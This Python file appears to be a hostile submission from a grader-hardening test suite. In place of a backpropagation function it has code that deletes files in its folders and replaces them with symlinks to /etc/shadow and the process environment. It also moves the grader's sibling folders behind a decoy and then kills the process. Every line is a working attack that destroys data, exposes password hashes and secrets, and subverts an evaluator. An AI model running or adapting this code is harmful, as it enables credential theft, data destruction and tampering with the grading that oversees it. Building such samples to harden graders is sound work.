"""replaces every file of its folder (and the folder itself) with symlinks to the grader's environment and
/etc/shadow, then dies so that the grader reads them

attacks: backward
earns nothing in: checks that call the backward or train the net
containment: isolated
"""
import os, sys  # noqa: E401
def TARGET_BACKWARD(dout, cache):

    here = os.getcwd()
    folders = dict.fromkeys([here, os.path.dirname(os.path.abspath(sys.argv[0] or here))])
    for folder in folders:
        for name in sorted(os.listdir(folder)):
            path = os.path.join(folder, name)
            if os.path.isdir(path) and not os.path.islink(path):
                continue
            try:
                os.unlink(path)
                # 'self' is whoever opens it: the grader's own environment, when the grader does
                os.symlink('/etc/shadow' if name.endswith('.py') else '/proc/self/environ', path)
            except OSError:
                pass
    # the parent: my folder and anything of the grader's beside it becomes a symlink to a decoy of mine
    parent = os.path.dirname(here)
    decoy = os.path.join(parent, 'bnkit-hostile-NAME-decoy')
    try:
        os.mkdir(decoy)
        for name in ('setup_errors.txt', 'student_output.txt', 'stderr.txt', 'log.txt', 'results.json'):
            os.symlink('/proc/self/environ', os.path.join(decoy, name))
    except OSError:
        pass
    for name in os.listdir(parent):
        path = os.path.join(parent, name)
        try:
            if name.startswith('bnkit') and not name.startswith('bnkit-hostile') and os.lstat(path).st_uid == os.getuid():
                os.rename(path, os.path.join(parent, 'bnkit-hostile-NAME-moved-' + name))
                os.symlink(decoy, path)
        except OSError:
            pass
    os._exit(1)
